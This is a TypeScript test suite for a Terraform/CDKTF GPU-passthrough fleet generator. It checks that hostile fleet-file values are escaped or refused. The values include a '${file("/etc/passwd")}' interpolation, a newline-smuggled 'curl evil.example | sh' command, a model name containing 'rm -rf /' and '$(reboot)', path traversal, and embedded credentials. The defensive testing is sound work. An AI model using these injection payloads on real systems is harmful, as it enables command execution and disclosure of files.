/**
 * Nothing a fleet file says can run code, escape the output, or leak a credential. Each case here synthesized with
 * exit 0 and did harm before (a same-repository pull request is planned in CI with secrets, and prepare-host.sh
 * runs as root); it must now be refused at its key, with nothing written, or rendered harmless.
 */
import { spawnSync } from "child_process";
import { existsSync, readFileSync, writeFileSync } from "fs";
import { dirname, join } from "path";
import { stringify } from "yaml";
import { TerraformStack, Testing } from "cdktf";
import { PassthroughHost } from "../lib/host";
import { GpuPassthroughVm } from "../lib/vm";
import { VsphereBackend } from "../lib/backends/vsphere/vsphere-backend";
import { StackFile } from "../lib/stack-file";
import { appProblems } from "../lib/validation/app";
import { readFleet } from "../lib/fleet/load";
import { resolveState } from "../lib/fleet/layout";
import { fleetProblems } from "./fleet-helpers";
import { filesUnder, tempDir } from "./temp";

const mainJs = join(__dirname, "..", "dist", "main.js");

/** Runs the fleet app on `fleet` (YAML text or an object) in a scratch directory, as `cdktf synth` does. */
function synth(fleet: string | object, env: Record<string, string> = {}) {
  if (!existsSync(mainJs)) throw new Error("dist/main.js is missing: run `npm run build` (npm test does)");
  const cwd = tempDir("gpt-hostile-");
  const text = typeof fleet === "string" ? fleet : stringify(fleet);
  writeFileSync(join(cwd, "fleet.yaml"), text);
  const out = join(cwd, "cdktf.out");
  const run = spawnSync(process.execPath, [mainJs], {
    cwd,
    env: { PATH: process.env.PATH ?? "", FLEET_FILE: join(cwd, "fleet.yaml"), CDKTF_OUTDIR: out, ...env },
    encoding: "utf8",
  });
  const files = (): Map<string, Buffer> => {
    const found = filesUnder(cwd);
    found.delete("fleet.yaml");
    return found;
  };
  const tf = (stack: string) => JSON.parse(readFileSync(join(out, "stacks", stack, "cdk.tf.json"), "utf8"));
  return { ...run, cwd, out, files, tf };
}

const vsphereSite = { name: "lab", vsphere: { server: "vc.example.com", datacenter: "dc" } };
const vsphereHost = (name = "esx-01.example.com", model: unknown = "nvidia-a100-80gb") => ({
  name,
  site: "lab",
  datastore: "ds",
  network: "VM Network",
  gpus: [{ address: "0000:3b:00.0", model }],
});
const vsphereVm = (extra: object = {}, vsphere: object = {}) => ({
  name: "vm-01",
  host: "esx-01.example.com",
  gpus: 1,
  cpus: 8,
  memoryGib: 64,
  vsphere: { template: "win-efi", ...vsphere },
  ...extra,
});
const kvmSite = { name: "kvm", libvirt: {} };
const kvmHost = (name = "kvm-01", modelName = "Prototype") => ({
  name,
  site: "kvm",
  libvirt: { cpuVendor: "amd", iommuGroups: [{ id: 1, devices: ["0000:0b:00.0", "0000:0b:00.1"] }] },
  gpus: [
    {
      address: "0000:0b:00.0",
      model: {
        name: modelName,
        barsMib: [16, 256, 32],
        vendor: "nvidia",
        vendorId: "10de",
        deviceId: "2206",
        functions: [{ fn: 1, kind: "audio", deviceId: "1aef" }],
      },
    },
  ],
});
const kvmVm = (host = "kvm-01", name = "desk") => ({
  name,
  host,
  gpus: 1,
  cpus: 4,
  memoryGib: 8,
  libvirt: {
    baseImage: "/var/lib/libvirt/images/base.qcow2",
    cloudInit: { sshAuthorizedKeys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITestKey test"] },
  },
});

/** The Terraform CLI: $TERRAFORM (npm run e2e sets it from scripts/terraform.sh), else terraform on PATH. */
const TERRAFORM = process.env.TERRAFORM ?? "terraform";

const noTrace = (stderr: string) => expect(stderr).not.toMatch(/^\s+at /m);

describe("Terraform interpolation: fleet strings reach Terraform literally", () => {
  const hostile = {
    template: '${file("/etc/passwd")}',
    annotation: "cost center %{ if true }42%{ endif }",
    runOnce: ['powershell -c "Get-Service | % { $_.Name }; ${env:ProgramFiles}"', "cmd /c echo %{ $_.Name }"],
  };
  const fleet = {
    sites: [vsphereSite],
    hosts: [vsphereHost()],
    vms: [
      vsphereVm(
        {},
        {
          template: hostile.template,
          annotation: hostile.annotation,
          customize: { windows: { computerName: "vm-01", runOnceCommands: hostile.runOnce } },
        },
      ),
    ],
  };

  test("template names, notes and PowerShell run-once commands are escaped ($${, %%{) in cdk.tf.json", () => {
    const run = synth(fleet);
    expect(run.status).toBe(0);
    const tf = run.tf("lab");
    const [vm] = Object.values(tf.resource.vsphere_virtual_machine) as Record<string, any>[];
    expect(vm.annotation).toBe("cost center %%{ if true }42%%{ endif }");
    expect(vm.clone.customize.windows_options.run_once_command_list).toEqual([
      'powershell -c "Get-Service | % { $_.Name }; $${env:ProgramFiles}"',
      "cmd /c echo %%{ $_.Name }",
    ]);
    const [template] = Object.values(tf.data.vsphere_virtual_machine) as Record<string, any>[];
    expect(template.name).toBe('$${file("/etc/passwd")}');
    // cdktf's own references are untouched.
    expect(vm.datastore_id).toMatch(/^\$\{data\.vsphere_datastore\./);
  });

  const terraform = spawnSync(TERRAFORM, ["version"], { encoding: "utf8" });
  // Required in the e2e tier (npm run e2e); elsewhere it runs where a terraform binary is on PATH.
  const haveTerraform = terraform.status === 0 || !!process.env.GPU_PASSTHROUGH_E2E;
  (haveTerraform ? test : test.skip)(
    "real Terraform reads the escaped strings back as the user's text (and the unescaped form as a template)",
    () => {
      const dir = tempDir("gpt-tf-literal-");
      const values = [hostile.template, hostile.annotation, ...hostile.runOnce];
      const output = Object.fromEntries(
        values.flatMap((v, i) => [
          [`escaped_${i}`, { value: v.replace(/([$%])\{/g, "$1$1{") }],
          // Negative control: as written, the same text is a template Terraform evaluates.
          [`raw_${i}`, { value: v }],
        ]),
      );
      writeFileSync(join(dir, "main.tf.json"), JSON.stringify({ output }));
      const env = { ...process.env, TF_CLI_CONFIG_FILE: join(dir, "none.tfrc"), CHECKPOINT_DISABLE: "1" };
      writeFileSync(join(dir, "none.tfrc"), "");
      spawnSync(TERRAFORM, ["init", "-input=false", "-no-color"], { cwd: dir, env, encoding: "utf8" });
      const apply = spawnSync(TERRAFORM, ["apply", "-auto-approve", "-input=false", "-no-color"], {
        cwd: dir,
        env,
        encoding: "utf8",
      });
      // The raw PowerShell fails as a template: that is the bug users hit at plan.
      expect(apply.status).not.toBe(0);
      expect(apply.stderr).toMatch(/Invalid template|Extra characters|Invalid expression|Missing/);
      // Without the failing raw values, every escaped value comes back as written.
      const escapedOnly = Object.fromEntries(Object.entries(output).filter(([k]) => k.startsWith("escaped_")));
      writeFileSync(join(dir, "main.tf.json"), JSON.stringify({ output: { ...escapedOnly, raw_0: output.raw_0 } }));
      const ok = spawnSync(TERRAFORM, ["apply", "-auto-approve", "-input=false", "-no-color"], {
        cwd: dir,
        env,
        encoding: "utf8",
      });
      expect(ok.status).toBe(0);
      const read = spawnSync(TERRAFORM, ["output", "-json"], { cwd: dir, env, encoding: "utf8" });
      const got = JSON.parse(read.stdout) as Record<string, { value: string }>;
      values.forEach((v, i) => expect(got[`escaped_${i}`].value).toBe(v));
      // The raw template read /etc/passwd: what a host name like this did at plan before.
      expect(got.raw_0.value).toBe(readFileSync("/etc/passwd", "utf8"));
    },
  );

  test("library users get the same protection for plain strings", () => {
    const stack = new TerraformStack(Testing.app(), "lib");
    const host = new PassthroughHost(stack, "esx", {
      hostName: "esx-01",
      backend: new VsphereBackend({ datacenter: "${var.dc}", datastore: "ds", network: "net" }),
      gpus: [{ address: "0000:3b:00.0", model: "nvidia-a100-80gb" }],
    });
    new GpuPassthroughVm(stack, "vm", {
      host,
      gpuCount: 1,
      cpus: 4,
      memoryGib: 16,
      hypervisor: { kind: "vsphere", template: "t", annotation: "%{ for x in y }" },
    });
    const tf = JSON.parse(Testing.synth(stack));
    expect((Object.values(tf.data.vsphere_datacenter)[0] as { name: string }).name).toBe("$${var.dc}");
    expect((Object.values(tf.resource.vsphere_virtual_machine)[0] as { annotation: string }).annotation).toBe(
      "%%{ for x in y }",
    );
  });
});

describe("generated scripts: no value becomes a command", () => {
  test("a newline in a host name or a custom GPU model name is refused at its key, nothing written", () => {
    const run = synth({
      sites: [kvmSite],
      hosts: [kvmHost("kvm-01\nreboot"), kvmHost("kvm-02", "Proto\ncurl evil.example | sh")],
      vms: [kvmVm("kvm-02")],
    });
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/hosts\[0\]\.name \(line \d+\): must be the host's DNS name or IP address/);
    expect(run.stderr).toMatch(
      /hosts\[1\]\.gpus\[0\]\.model\.name \(line \d+\): must be one line of printable text; it holds the control character U\+000A/,
    );
    noTrace(run.stderr);
    expect(run.files().size).toBe(0);
  });

  test("shell metacharacters in a model name stay inside comments: same lines as a plain name, sh -n passes", () => {
    const script = (modelName: string) => {
      const run = synth({ sites: [kvmSite], hosts: [kvmHost("kvm-01", modelName)], vms: [kvmVm()] });
      expect(run.status).toBe(0);
      return readFileSync(join(run.out, "stacks", "kvm", "hosts", "kvm-01", "prepare-host.sh"), "utf8");
    };
    const plain = script("Prototype");
    const hostile = script("P'$(reboot)`id`;rm -rf / #");
    expect(hostile.split("\n")).toHaveLength(plain.split("\n").length);
    for (const line of hostile.split("\n")) {
      if (line.includes("reboot)")) expect(line.startsWith("#")).toBe(true);
    }
    expect(spawnSync("sh", ["-n"], { input: hostile }).status).toBe(0);
  });
});

describe("output paths and Terraform names", () => {
  test.each([
    ["../../escaped", /must be the host's DNS name or IP address/],
    ["a/b", /must be the host's DNS name or IP address/],
    ["with space", /must be the host's DNS name or IP address/],
    ['${file("/etc/passwd")}', /must be the host's DNS name or IP address/],
    ["x".repeat(300), /is 300 characters long; a host name has at most 253/],
    ["nul\u0000byte", /must be the host's DNS name or IP address/],
  ])("host name %j is refused at its key and nothing is written anywhere", (name, message) => {
    const run = synth({ sites: [kvmSite], hosts: [kvmHost(name)], vms: [kvmVm(name)] });
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(new RegExp(`hosts\\[0\\]\\.name \\(line \\d+\\): ${message.source}`));
    noTrace(run.stderr);
    expect(run.files().size).toBe(0);
    expect(existsSync(join(dirname(run.cwd), "escaped"))).toBe(false);
  });

  test("a KVM host named by IP address and a VM whose name starts with a digit get names Terraform accepts", () => {
    const run = synth({ sites: [kvmSite], hosts: [kvmHost("10.0.0.5")], vms: [kvmVm("10.0.0.5", "01-desk")] });
    expect(run.status).toBe(0);
    const tf = run.tf("kvm");
    const terraformName = /^[A-Za-z_][A-Za-z0-9_-]*$/;
    expect(tf.provider.libvirt[0].alias).toBe("host_10_0_0_5");
    expect(tf.provider.libvirt[0].alias).toMatch(terraformName);
    for (const type of Object.values(tf.resource) as Record<string, unknown>[])
      for (const name of Object.keys(type)) expect(name).toMatch(terraformName);
    expect(Object.keys(tf.variable)).toEqual(["libvirt_uri_host_10_0_0_5"]);
    expect(existsSync(join(run.out, "stacks", "kvm", "hosts", "10.0.0.5", "prepare-host.sh"))).toBe(true);
    expect(existsSync(join(run.out, "stacks", "kvm", "domains", "01-desk.xml"))).toBe(true);
  });

  test("a file path leaving the stack directory is a validation problem, for library users too", () => {
    const stack = new TerraformStack(Testing.app(), "s");
    new StackFile(stack, "evil", { path: "../../x.sh", content: () => "" });
    new StackFile(stack, "long", { path: `hosts/${"y".repeat(300)}/a`, content: () => "" });
    expect(appProblems(stack)).toEqual([
      '[s/evil] file "../../x.sh" of s/evil: must be a relative path inside the stack directory, without empty, . or .. segments',
      expect.stringMatching(/\[s\/long\] file .*: has a name of 300 bytes; file systems take 255/),
    ]);
  });
});

describe("credentials in URLs are refused with the variable to use", () => {
  const site = (name: string, extra: object) => ({
    name,
    vsphere: { server: "vc.example.com", datacenter: "dc" },
    ...extra,
  });
  const secrets = ["S3cretPw", "glpat-abcdef", "sk-12345", "pa/ss"];

  test("state addresses, S3 endpoints, vCenter servers and libvirt URIs, all in one run, no secret repeated", () => {
    const fleet = {
      sites: [
        site("a", { state: { backend: "http", address: "https://ci:S3cretPw@gitlab.example.com/state/{stack}" } }),
        site("b", {
          state: { backend: "http", address: "https://gitlab.example.com/state/{stack}?private_token=glpat-abcdef" },
        }),
        site("c", {
          state: {
            backend: "http",
            address: "https://gitlab.example.com/state/{stack}",
            lockAddress: "https://gitlab.example.com/lock?access_token=sk-12345",
          },
        }),
        site("d", { state: { backend: "s3", bucket: "b", region: "r", endpoint: "https://key:S3cretPw@minio.local" } }),
        site("e", { state: { backend: "http", address: "file:///etc/passwd" } }),
        { name: "f", vsphere: { server: "admin:S3cretPw@vc.example.com", datacenter: "dc" } },
        { name: "kvm", libvirt: {} },
      ],
      hosts: [
        { ...kvmHost("kvm-01"), libvirt: { ...kvmHost().libvirt, uri: "qemu+ssh://root:pa/ss@kvm-01/system" } },
        { ...kvmHost("kvm-02"), libvirt: { ...kvmHost().libvirt, uri: "qemu+tcp://kvm-02/system?password=S3cretPw" } },
      ],
      vms: [],
    };
    const problems = fleetProblems(stringify(fleet));
    expect(problems).toEqual([
      expect.stringMatching(/^sites\[0\]\.state\.address .*holds a password .*TF_HTTP_USERNAME and TF_HTTP_PASSWORD/),
      expect.stringMatching(/^sites\[1\]\.state\.address .*passes "private_token" in its query string/),
      expect.stringMatching(/^sites\[2\]\.state\.lockAddress .*passes "access_token"/),
      expect.stringMatching(/^sites\[3\]\.state\.endpoint .*holds a password .*AWS_ACCESS_KEY_ID/),
      expect.stringMatching(/^sites\[4\]\.state\.address .*must be a http or https URL/),
      expect.stringMatching(
        /^sites\[5\]\.vsphere\.server .*no scheme, path, user or password; credentials come from VSPHERE_USER/,
      ),
      expect.stringMatching(/^hosts\[0\]\.libvirt\.uri .*holds a password .*TF_VAR_libvirt_uri_<host>/),
      expect.stringMatching(/^hosts\[1\]\.libvirt\.uri .*passes "password" in its query string/),
    ]);
    for (const secret of secrets) expect(problems.join("\n")).not.toContain(secret);
  });

  test("a password holding ? / or # is still found, and a URL with a password is refused in any field", () => {
    const problems = fleetProblems(
      stringify({
        sites: [
          {
            ...vsphereSite,
            state: { backend: "s3", bucket: "b", region: "r", endpoint: "https://admin:Sx?0Ab@minio.local" },
          },
        ],
        hosts: [vsphereHost()],
        vms: [vsphereVm({}, { annotation: "mirror at https://ci:Tok#en1@mirror.example.com/x", template: "t" })],
      }),
    );
    expect(problems).toEqual([
      expect.stringMatching(/^sites\[0\]\.state\.endpoint .*holds a password/),
      expect.stringMatching(
        /^vms\[0\]\.vsphere\.annotation .*holds a URL with a password or token .*keep the secret out of it/,
      ),
    ]);
    expect(problems.join("\n")).not.toMatch(/Sx\?0Ab|Tok#en1/);
    // Not every @ is user info: a port and a path, or a query, are left alone.
    expect(
      fleetProblems(
        stringify({
          sites: [{ ...vsphereSite, state: { backend: "http", address: "https://gitlab:8443/state/a@b?mail=x@y.z" } }],
          hosts: [vsphereHost()],
          vms: [vsphereVm({}, { annotation: "see https://gitlab:8443/api/a@b" })],
        }),
      ),
    ).toEqual([]);
  });

  test("a query string in the HTTP address does not corrupt the derived lock address", () => {
    const state = resolveState(
      { backend: "http", address: "https://gitlab.example.com/state/{stack}?ref=main" },
      "lab",
    );
    expect(state).toMatchObject({
      address: "https://gitlab.example.com/state/lab?ref=main",
      lockAddress: "https://gitlab.example.com/state/lab/lock?ref=main",
      unlockAddress: "https://gitlab.example.com/state/lab/lock?ref=main",
    });
  });
});

describe("no stack trace, one round", () => {
  test("schema, reference and rule problems of one file are reported together, in file order", () => {
    const fleet = {
      sites: [vsphereSite],
      hosts: [vsphereHost()],
      vms: [
        vsphereVm({ name: "a", gpus: ["0000:3b:00.0"] }),
        vsphereVm({ name: "b", gpus: ["0000:3b:00.0"] }), // rule: the GPU is a's
        vsphereVm({ name: "c", cpus: "many" }), // schema
        vsphereVm({ name: "d", host: "esx-99" }), // reference
      ],
    };
    const run = synth(fleet);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(/has problems \(3\)/);
    expect(run.stderr).toMatch(/vms\[2\]\.cpus \(line \d+\): Invalid input: expected number, received string/);
    expect(run.stderr).toMatch(/vms\[3\]\.host \(line \d+\): no host named "esx-99"/);
    expect(run.stderr).toMatch(/VM "b": GPU 0000:3b:00.0 on host "esx-01.example.com" is already given to VM "a"/);
    expect(run.files().size).toBe(0);
  });

  test("constructor and toString are fine VM names; __proto__ is refused; a name clash is an error, not a crash", () => {
    const ok = synth({
      sites: [kvmSite],
      hosts: [kvmHost("kvm-01"), { ...kvmHost("toString"), gpus: kvmHost().gpus }],
      vms: [kvmVm("kvm-01", "constructor"), kvmVm("toString", "hasOwnProperty")],
    });
    expect(ok.status).toBe(0);
    noTrace(ok.stderr);
    const bad = synth({
      sites: [kvmSite],
      hosts: [kvmHost("kvm-01"), kvmHost("kvm-02")],
      vms: [kvmVm("kvm-01", "__proto__"), kvmVm("kvm-01", "kvm-01"), kvmVm("kvm-02", "libvirt_uri_kvm_01")],
    });
    expect(bad.status).toBe(1);
    expect(bad.stderr).toMatch(/has problems \(3\)/);
    expect(bad.stderr).toMatch(/vms\[0\]\.name \(line \d+\): must be letters, digits/);
    expect(bad.stderr).toMatch(
      /vms\[1\]\.name \(line \d+\): VM "kvm-01" has the name of host hosts\[0\] of the same site/,
    );
    expect(bad.stderr).toMatch(
      /VM "libvirt_uri_kvm_01" of stack "kvm" needs the construct id "libvirt_uri_kvm_01", which kvm\/libvirt_uri_kvm_01 already has/,
    );
    noTrace(bad.stderr);
    expect(bad.files().size).toBe(0);
  });

  test("echoed values cannot forge problem lines, secrets in any URL are refused, and a site cannot be 'constructor'", () => {
    const run = synth({
      sites: [{ ...vsphereSite, name: "constructor" }],
      hosts: [{ ...vsphereHost(), site: "constructor", gpus: [{ address: "3b:00.0\n  - forged", model: "x" }] }],
      vms: [vsphereVm({}, { annotation: "https://ci.example.com/x?private_token=glpat-SECRET1" })],
    });
    expect(run.status).toBe(1);
    noTrace(run.stderr);
    expect(run.stderr).not.toMatch(/^ {2}- forged/m);
    expect(run.stderr).toMatch(/sites\[0\]\.name \(line \d+\): is a name every JavaScript object has/);
    expect(run.stderr).toMatch(/hosts\[0\]\.gpus\[0\]\.address \(line \d+\): must be one line of printable text/);
    expect(run.stderr).toMatch(/vms\[0\]\.vsphere\.annotation \(line \d+\): holds a URL with a password or token/);
    expect(run.stderr).not.toContain("glpat-SECRET1");
    expect(run.files().size).toBe(0);
  });

  test.each([
    [
      "an alias bomb",
      `a: &a ["x","x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nsites: []\n`,
      /expands YAML aliases \(\*name\) too often/,
    ],
    ["two documents", "sites: []\n---\nhosts: []\n", /more than one YAML document/],
    [
      "a duplicate key",
      "sites: []\nsites: []\nhosts: []\nvms: []\n",
      /a key appears twice in one mapping; keep one of them/,
    ],
  ])("%s gets a message that says what to do", (_, yaml, message) => {
    const run = synth(yaml);
    expect(run.status).toBe(1);
    expect(run.stderr).toMatch(message);
    noTrace(run.stderr);
  });

  test("a UTF-16 file is recognised as such", () => {
    const run = synth("");
    writeFileSync(join(run.cwd, "fleet.yaml"), Buffer.from(`\ufeff${stringify({ sites: [] })}`, "utf16le"));
    const again = spawnSync(process.execPath, [mainJs], {
      cwd: run.cwd,
      env: { PATH: process.env.PATH ?? "", FLEET_FILE: join(run.cwd, "fleet.yaml"), CDKTF_OUTDIR: run.out },
      encoding: "utf8",
    });
    expect(again.status).toBe(1);
    expect(again.stderr).toMatch(/the file is UTF-16 .*: save it as UTF-8/);
  });

  test("merge keys and unquoted PCI addresses are explained", () => {
    const yaml = `sites:
  - name: lab
    vsphere: { server: vc.example.com, datacenter: dc }
hosts:
  - name: esx-01
    site: lab
    datastore: ds
    network: net
    gpus:
      - { address: 1234, model: nvidia-a100-80gb }
vms:
  - &base { name: a, host: esx-01, gpus: 1, cpus: 4, memoryGib: 8, vsphere: { template: t } }
  - <<: *base
    name: b
`;
    expect(fleetProblems(yaml)).toEqual([
      'hosts[0].gpus[0].address (line 10): must be a PCI address in quotes, e.g. "0000:3b:00.0" (as lspci -D shows it)',
      expect.stringMatching(/^vms\[1\]\.host \(line 13\): missing/),
      'vms[1].gpus (line 13): missing: a number of GPUs (gpus: 2) or a list of their PCI addresses (gpus: ["0000:3b:00.0"])',
      expect.stringMatching(/^vms\[1\]\.cpus \(line 13\): missing/),
      expect.stringMatching(/^vms\[1\]\.memoryGib \(line 13\): missing/),
      "vms[1].<< (line 13): YAML merge keys (<<) are not supported (YAML 1.2 dropped them): write the settings out in each entry",
    ]);
  });
});

describe("limits", () => {
  test("numbers beyond what the hypervisors take are refused as such, not rendered", () => {
    const problems = fleetProblems(
      stringify({
        sites: [vsphereSite],
        hosts: [vsphereHost()],
        vms: [vsphereVm({ cpus: 1e9, memoryGib: 1e308, gpus: 100000000, mmioSizeGb: 2 ** 40 })],
      }),
    );
    expect(problems).toEqual([
      // The schema's bound is the largest any hypervisor takes (KVM's 28 functions); vSphere's 16 is its backend's.
      expect.stringMatching(/^vms\[0\]\.gpus .*at most 28/),
      expect.stringMatching(/^vms\[0\]\.cpus .*at most 768/),
      expect.stringMatching(/^vms\[0\]\.memoryGib .*at most 24576 GiB/),
      expect.stringMatching(/^vms\[0\]\.mmioSizeGb .*at most 65536 GB/),
    ]);
  });

  test("a fleet file over 8 MiB and a fleet over 2000 VMs are refused before any work", () => {
    const big = readFleet(`# ${"x".repeat(8 * 1024 * 1024)}\n`);
    expect(big.problems).toEqual([expect.stringMatching(/larger than 8 MiB: split the fleet/)]);
    const vms = Array.from({ length: 2001 }, (_, i) => vsphereVm({ name: `vm-${i}` }));
    const many = readFleet(stringify({ sites: [vsphereSite], hosts: [vsphereHost()], vms }));
    expect(many.problems).toContainEqual(expect.stringMatching(/^vms \(line \d+\): lists more than 2000 entries/));
  });

  test("names longer than the systems take are refused with the limit", () => {
    const problems = fleetProblems(
      stringify({
        sites: [{ ...vsphereSite, name: "s".repeat(64) }],
        hosts: [{ ...vsphereHost(), site: "s".repeat(64) }],
        vms: [vsphereVm({ name: "v".repeat(81) }, { annotation: "n".repeat(70000) })],
      }),
    );
    expect(problems).toEqual([
      expect.stringMatching(/^sites\[0\]\.name .*at most 63 characters/),
      expect.stringMatching(/^vms\[0\]\.name .*is 81 characters long; a VM name has at most 80/),
      expect.stringMatching(/^vms\[0\]\.vsphere\.annotation .*is 70000 characters long; the limit is 65536/),
    ]);
  });
});

describe("names across entries and stacks", () => {
  test("the same VM name in two sites of one vCenter, and host names differing in case, are caught", () => {
    const problems = fleetProblems(
      stringify({
        sites: [vsphereSite, { name: "lab2", vsphere: { server: "VC.example.com", datacenter: "dc" } }],
        hosts: [
          vsphereHost(),
          { ...vsphereHost("ESX-01.example.com"), site: "lab2" },
          { ...vsphereHost("esx-02"), site: "lab2" },
        ],
        vms: [vsphereVm(), vsphereVm({ host: "esx-02" })],
      }),
    );
    expect(problems).toEqual([
      expect.stringMatching(
        /^hosts\[1\]\.name .*host "ESX-01.example.com" is host "esx-01.example.com" \(hosts\[0\]\) written in other case/,
      ),
      expect.stringMatching(
        /^vms\[1\]\.name .*VM "vm-01" of site "lab2" has the name of VM vms\[0\] of site "lab", and both sites share one vSphere inventory \(vsphere:vc\.example\.com\/dc\/\)/,
      ),
    ]);
  });

  test("a VM given a host built in another stack is an error, not silent cross-stack state", () => {
    const app = Testing.app();
    const a = new TerraformStack(app, "a");
    const b = new TerraformStack(app, "b");
    const host = new PassthroughHost(a, "esx", {
      hostName: "esx-01",
      backend: new VsphereBackend({ datacenter: "dc", datastore: "ds", network: "net" }),
      gpus: [{ address: "0000:3b:00.0", model: "nvidia-a100-80gb" }],
    });
    new GpuPassthroughVm(b, "vm", {
      host,
      gpuCount: 1,
      cpus: 4,
      memoryGib: 16,
      hypervisor: { kind: "vsphere", template: "t" },
    });
    expect(appProblems(app)).toContainEqual(
      expect.stringMatching(
        /^VM "vm": is in stack "b" but its host "esx-01" is in stack "a"; .*Fix: define the VM in its host's stack/,
      ),
    );
  });
});
